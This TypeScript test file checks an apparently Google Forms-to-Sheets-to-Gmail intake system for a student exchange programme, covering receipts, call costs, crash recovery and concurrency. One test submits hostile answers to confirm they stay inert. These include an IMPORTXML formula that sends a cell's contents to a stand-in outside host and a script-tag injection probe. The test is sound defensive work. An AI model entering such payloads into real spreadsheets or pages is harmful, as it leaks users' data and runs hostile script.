import type {Snapshot} from '../../emulator';
import {jumpTo} from '../../emulator/demo/clock';
import {builtProduct} from '../make/product';
import {STRIDE} from '../make/stride';
import {answers, beginSeason, resume, type Season, setUp, table} from './world';

const ZOE = 'zoe@student.kuleuven.be';

let season: Season;
let ready: Snapshot;
beforeAll(async () => {
  season = beginSeason(await builtProduct());
  setUp(season);
  ready = season.workspace.snapshot();
}, 240_000);

const again = (): Season => resume(season, ready);

/** What a person would compare: applications, wishes, outbox rows without ids and times, mails received. */
function outcome(after: Season, ...addresses: readonly string[]): unknown {
  return {
    applications: table(after, 'Applications'),
    wishes: table(after, 'Wishes'),
    outbox: table(after, 'Outbox').map(({Key, State}) => [Key, State]),
    mails: addresses.map(address => after.workspace.mailbox(address).received.map(({subject}) => subject)),
    drafts: after.workspace.mailbox(after.neo.email).drafts.length,
  };
}

/** Lets somebody apply, and tells what the trigger cost. */
function applying({form, project}: Season): (address: string, fifth?: string) => number {
  let last = 0;
  project.inner.onRun = run => {
    if (run.handler === 'onFormSubmitted') last = run.callCount;
  };
  return (address, fifth = 'Zweden') => {
    form.submitAs(address, answers({Studentennummer: address, Voornaam: address, 'Vijfde keuze': fifth}));
    return last;
  };
}

describe('intake, from the form to the mailbox', () => {
  it('an application is taken in at once, with a receipt within one clock step', () => {
    const here = again();
    here.form.submitAs(ZOE, answers());

    expect(table(here, 'Applications')).toMatchObject([
      {Reference: 'S27-0001', State: 'complete', 'First name': 'Zoë', Committee: 'KUL', Language: 'nl'},
    ]);
    expect(table(here, 'Wishes').map(wish => wish.Country)).toEqual([
      'Japan',
      'Italy',
      'Québec',
      'Czech Republic',
      'Sweden',
    ]);

    here.workspace.advance({minutes: 10});
    const {received} = here.workspace.mailbox(ZOE);
    expect(received.map(({subject}) => subject)).toEqual(['SCOPE 2027: we hebben je kandidatuur (S27-0001)']);
    expect(received[0]?.text).toContain('Je kandidatuur voor SCOPE 2027 is binnengekomen.');
    expect(table(here, 'Outbox').map(({State}) => State)).toEqual(['sent']);
  });

  it('takes in what no trigger told of, with the worker', () => {
    const here = again();
    here.workspace.faults.crashAtCall(1);
    here.form.submitAs(ZOE, answers());
    expect(table(here, 'Applications')).toEqual([]);

    here.workspace.advance({minutes: 10});

    expect(table(here, 'Applications')).toHaveLength(1);
    expect(here.workspace.mailbox(ZOE).received).toHaveLength(1);
  });

  it('costs at most 12 service calls for one response, from Set up on, and leaves the room to the automation', () => {
    const here = again();
    const apply = applying(here);

    const calls = Array.from({length: 70}, (_, at) => {
      if (at % 15 === 14) here.workspace.advance({minutes: 10});
      return apply(`s${at}@x.be`);
    });

    expect(new Set(calls)).toEqual(new Set([12]));
    jumpTo(here.workspace, here.workspace.core.now() + 3 * 3_600_000);
    expect(apply('late@x.be')).toBe(12); // the remembered configuration is good until the worker reads it anew
  });

  it('costs no more where everything comes together: a rush, edited tabs, an edit under way, answers that fill several cells', () => {
    const here = again();
    const apply = applying(here);
    here.workspace.advance({minutes: 10});
    for (const tab of ['Settings', 'Committees', 'Contracts']) here.book.tab(tab).type('C3', 'edited', {as: here.neo});
    here.workspace.faults.crashAtCall(3);
    here.book.tab('Contracts').type('B2', 'Nippon', {as: here.neo});
    here.workspace.faults.clear();

    const calls = Array.from({length: 60}, (_, at) =>
      apply(`s${at}@x.be`, at % 20 === 0 ? 'x'.repeat(50_000) : 'Zweden'),
    );
    expect(new Set(calls)).toEqual(new Set([12]));
    const parts = table(here, 'Journal').map(({Part}) => Part);
    expect(parts).toContain('2/2');
    expect(table(here, 'Applications')).toHaveLength(60);
  });

  it('costs 13 or 14 where applications of the same person give way, one more where something was decided of them', () => {
    const here = again();
    const apply = applying(here);
    here.workspace.advance({minutes: 10});
    const [, second, third, fourth, fifth] = ['1', '2', '3', '4', '5'].map(other => {
      apply(`${other}@x.be`);
      return apply('a@x.be');
    });

    expect([second, third, fourth, fifth]).toEqual([13, 14, 14, 13]); // one row of before changes, two, three, four
    const applied = here.book.tab('Applications');
    applied.type(2, applied.values()[0]!.indexOf('Decision') + 1, 'invited');
    expect(apply('1@x.be')).toBe(14);
  });

  it('costs 20 for the first answer after the form has changed, and 13 where a tab is full after all', () => {
    const here = again();
    const apply = applying(here);
    here.workspace.advance({minutes: 10});
    here.form.addItem({type: 'TEXT', title: 'Hobby'});
    expect(apply('d@x.be')).toBe(20); // the form is asked what its questions are called now
    expect(apply('e@x.be')).toBe(12);

    const outbox = here.book.tab('Outbox');
    outbox.deleteRow(outbox.lastRow + 1, outbox.rows - outbox.lastRow);
    expect(['f@x.be', 'g@x.be'].map(address => apply(address))).toEqual([13, 12]);
  });

  it('costs 11 to 13 where an application is edited: its own rows change, and its list of wishes grows or shrinks', () => {
    const here = again();
    here.form.set({editAfterSubmit: true});
    const ranks = ['Eerste', 'Tweede', 'Derde', 'Vierde', 'Vijfde'];
    const listed = (wishes: readonly string[]) =>
      Object.fromEntries(ranks.map((rank, at) => [`${rank} keuze`, wishes[at] ?? '']));
    const {responseId} = here.form.submitAs(ZOE, answers(listed(['Japan', 'Italië', 'Zweden'])));
    let last = 0;
    here.project.inner.onRun = run => {
      if (run.handler === 'onFormSubmitted') last = run.callCount;
    };
    const edit = (more: object): number => {
      here.workspace.advance({minutes: 10});
      here.form.submitAs(ZOE, answers({...listed(['Japan', 'Italië', 'Zweden']), ...more}), {edit: responseId});
      return last;
    };

    expect(edit({Voornaam: 'Zoé'})).toBe(11);
    expect(edit(listed(['Italië', 'Japan', 'Zweden']))).toBe(12);
    expect(edit(listed(['Japan', 'Zweden', 'Italië', 'Brazilië', 'Peru']))).toBe(13);
    expect(edit(listed(['Peru', 'Zweden']))).toBe(13);
    expect(table(here, 'Wishes').map(({Country}) => Country)).toEqual(['Peru', 'Sweden']);
  });

  it('hostile answers stay as typed in the sheet and harmless in the mail', () => {
    const here = again();
    // A bare 007 is 7 in Google's own tab already, before we read it.
    const hostile = [
      '=IMPORTXML("https://e.x/?"&A2,"//a")',
      '+1+1',
      "'=1+1",
      '{{Reference}}',
      '<script>alert(1)</script>',
      '$& $1',
      '__proto__',
    ];
    hostile.forEach((Naam, at) => {
      here.form.submitAs(`s${at}@x.be`, answers({Naam, Studentennummer: `r${at}`}));
    });
    here.workspace.advance({minutes: 20});

    expect(table(here, 'Applications').map(row => row['Last name'])).toEqual(hostile);
    expect(
      here.book
        .tab('Applications')
        .formulas()
        .flat()
        .filter(formula => formula !== ''),
    ).toEqual([]);
    const mails = hostile.map((_, at) => here.workspace.mailbox(`s${at}@x.be`).received[0]);
    expect(mails[hostile.indexOf('{{Reference}}')]?.text).toContain('{{Reference}}');
    expect(mails[hostile.indexOf('<script>alert(1)</script>')]?.html).not.toContain('<script');
  });
});

/** Cuts off the n-th service call, for every n, before and after; a run that comes through ends the series. */
function everyCut(prepare: (here: Season) => void, go: (here: Season) => void): Season[] {
  const ends: Season[] = [];
  for (const phase of ['before', 'after'] as const) {
    for (let n = 1; n < 200; n += STRIDE) {
      const here = again();
      prepare(here);
      let cut = false;
      here.project.inner.onRun = run => {
        cut ||= run.error?.message.includes('cut off') ?? false;
      };
      here.workspace.faults.crashAtCall(n, phase);
      go(here);
      here.workspace.faults.clear();
      here.workspace.advance({minutes: 30});
      ends.push(here);
      if (!cut) break;
    }
  }
  return ends;
}

describe('whatever is cut off', () => {
  it('the trigger: one application, one receipt, as if nothing had happened', () => {
    const undisturbed = again();
    undisturbed.form.submitAs(ZOE, answers());
    undisturbed.workspace.advance({minutes: 30});

    const ends = everyCut(
      () => {},
      here => here.form.submitAs(ZOE, answers()),
    );

    expect(ends.length * STRIDE).toBeGreaterThan(20);
    for (const end of ends) expect(outcome(end, ZOE)).toEqual(outcome(undisturbed, ZOE));
  });

  it('the worker: every receipt once, none lost, no draft left over', () => {
    const people = ['a@x.be', 'b@x.be', 'c@x.be'];
    const submit = (here: Season): void => {
      people.forEach((person, at) => {
        here.form.submitAs(person, answers({Studentennummer: `r${at}`, Naam: `Peeters ${at}`}));
      });
    };
    const undisturbed = again();
    submit(undisturbed);
    undisturbed.workspace.advance({minutes: 40});

    const ends = everyCut(submit, here => here.workspace.advance({minutes: 10}));

    expect(ends.length * STRIDE).toBeGreaterThan(40);
    for (const end of ends) expect(outcome(end, ...people)).toEqual(outcome(undisturbed, ...people));
  });

  it('Gmail answers with an error after having sent: the mail is not sent again', () => {
    const here = again();
    here.form.submitAs(ZOE, answers());
    let failed = false;
    here.workspace.faults.onCall(({call, phase}) => {
      if (call !== 'Gmail.Users.Drafts.send' || phase !== 'after' || failed) return;
      failed = true;
      throw new Error('Backend Error');
    });
    here.workspace.advance({minutes: 10});
    here.workspace.faults.clear();
    here.workspace.advance({minutes: 30});

    expect(failed).toBe(true);
    expect(here.workspace.mailbox(ZOE).received).toHaveLength(1);
    expect(table(here, 'Outbox').map(({State}) => State)).toEqual(['sent']);
  });
});

describe('whatever comes in between', () => {
  it('a second application at any boundary of the first one’s trigger: both once, each with one receipt', () => {
    const BO = 'bo@student.kuleuven.be';
    let boundaries = 0;
    for (let n = 1; n < 60; n += STRIDE) {
      const here = again();
      let at = 0;
      let done = false;
      here.workspace.faults.onCall(({handler}) => {
        if (handler !== 'onFormSubmitted') return;
        at += 1;
        if (at !== n || done) return;
        done = true;
        here.form.submitAs(BO, answers({Voornaam: 'Bo', Studentennummer: 'r2'}));
      });
      here.form.submitAs(ZOE, answers());
      here.workspace.faults.clear();
      if (!done) break;
      boundaries += STRIDE;
      here.workspace.advance({minutes: 30});

      const applied = table(here, 'Applications').map(row => [row['E-mail'], row.State]);
      expect(applied.sort()).toEqual([
        [BO, 'complete'],
        [ZOE, 'complete'],
      ]);
      for (const person of [ZOE, BO]) expect(here.workspace.mailbox(person).received).toHaveLength(1);
    }
    expect(boundaries).toBeGreaterThan(20);
  });

  it('a second worker at any boundary of the first: no mail twice', () => {
    let boundaries = 0;
    for (let n = 1; n < 200; n += 3 * STRIDE) {
      const here = again();
      let triggerUid: string | undefined;
      here.project.inner.onRun = (_run, request) => {
        if (request.handler === 'work') triggerUid = request.triggerUid;
      };
      here.workspace.advance({minutes: 10});
      here.form.submitAs(ZOE, answers());
      let at = 0;
      let done = false;
      here.workspace.faults.onCall(({handler}) => {
        if (handler !== 'work') return;
        at += 1;
        if (at !== n || done) return;
        done = true;
        // At the same moment: an execution cannot live so long that the clock could move past its lease.
        here.project.run('work', [{triggerUid}]);
      });
      here.workspace.advance({minutes: 10});
      here.workspace.faults.clear();
      if (!done) break;
      boundaries += STRIDE;
      here.workspace.advance({minutes: 30});

      expect(here.workspace.mailbox(ZOE).received).toHaveLength(1);
      expect(here.workspace.mailbox(here.neo.email).drafts).toHaveLength(0);
      expect(table(here, 'Outbox').map(({State}) => State)).toEqual(['sent']);
    }
    expect(boundaries).toBeGreaterThan(10);
  });
});

describe('the season sidebar', () => {
  it('shows what came in per committee, and costs at most 6 service calls', () => {
    const here = again();
    here.form.submitAs(ZOE, answers());
    here.form.submitAs(
      'b@x.be',
      answers({Universiteit: 'ULB', Studiejaar: '2e bachelor', Studentennummer: 'r2', Naam: 'Dupont'}),
    );
    here.workspace.advance({minutes: 10});
    here.project.rpc('readSeason');
    const run = here.project.rpc('readSeason');
    const {value} = run.value as {
      value: {season: string; states: string[]; committees: unknown[]; mails: unknown[]; next: string};
    };

    expect(value.season).toBe('SCOPE 2027');
    expect(value.states.slice(0, 3)).toEqual(['done', 'now', 'later']);
    expect(value.next).toBe('2 applications so far. The form closes on Monday 18 October 2027, 23:59 (Brussels time).');
    expect(value.committees).toContainEqual({committee: 'KUL', complete: 1, incomplete: 0, notEligible: 0});
    expect(value.committees).toContainEqual({committee: 'ULB', complete: 0, incomplete: 0, notEligible: 1});
    expect(value.mails).toEqual([{state: 'sent', count: 2}]);
    expect(run.callCount).toBeLessThanOrEqual(6);
  });
});
